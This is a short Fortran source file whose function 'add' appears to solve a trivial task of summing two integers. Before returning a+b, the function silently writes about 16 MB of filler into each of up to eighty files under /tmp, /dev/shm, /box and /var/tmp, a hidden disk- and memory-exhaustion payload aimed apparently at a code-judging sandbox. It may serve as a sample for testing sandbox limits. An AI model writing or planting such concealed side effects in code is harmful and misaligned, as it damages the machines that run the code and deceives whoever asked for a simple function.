integer function add(a, b)
  integer, intent(in) :: a, b
  character(len=1048576), save :: block = 'x'
  character(len=8), parameter :: folders(4) = ['/tmp    ', '/dev/shm', '/box    ', '/var/tmp']
  integer :: folder, number, i, place, status
  character(len=40) :: name
  do folder = 1, 4
    do number = 1, 20
      write (name, '(a, a, i0)') trim(folders(folder)), '/', number
      open (newunit=place, file=trim(name), access='stream', form='unformatted', iostat=status)
      if (status /= 0) cycle
      do i = 1, 16
        write (place, iostat=status) block
        if (status /= 0) exit
      end do
      close (place, iostat=status)
    end do
  end do
  add = a + b
end function add
